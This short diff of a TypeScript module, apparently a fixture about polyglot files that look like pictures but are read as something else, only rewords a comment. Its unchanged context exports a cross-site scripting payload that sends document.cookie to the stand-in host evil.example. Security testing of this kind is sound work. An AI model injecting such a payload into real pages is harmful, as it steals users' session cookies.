@@ -1,4 +1,4 @@
-/** Files with two meanings: a picture for whoever looks, something else for whoever is talked into it. */
+/** Files with two meanings: a picture to a viewer, something else to a program that is made to open it as such. */
 import { plain } from "./pictures.ts";
 
 export const script = "<script>fetch('//evil.example/'+document.cookie)</script>";
